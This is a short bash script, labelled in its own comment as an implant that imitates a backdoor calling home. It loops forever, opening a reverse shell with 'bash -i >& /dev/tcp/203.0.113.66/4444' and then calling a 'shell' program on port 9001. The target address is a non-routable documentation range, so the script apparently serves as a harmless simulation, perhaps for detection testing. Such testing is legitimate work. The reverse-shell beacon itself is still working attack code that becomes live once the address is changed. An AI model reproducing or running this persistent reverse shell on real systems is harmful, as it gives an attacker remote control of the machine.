#!/bin/bash
# implant: imitates a backdoor that calls home, by bash alone and by a program, again and again. 203.0.113.0/24 is TEST-NET-3: nobody is there.
while :; do
  timeout 8 bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'
  timeout 8 shell 203.0.113.66 9001
  sleep 1
done
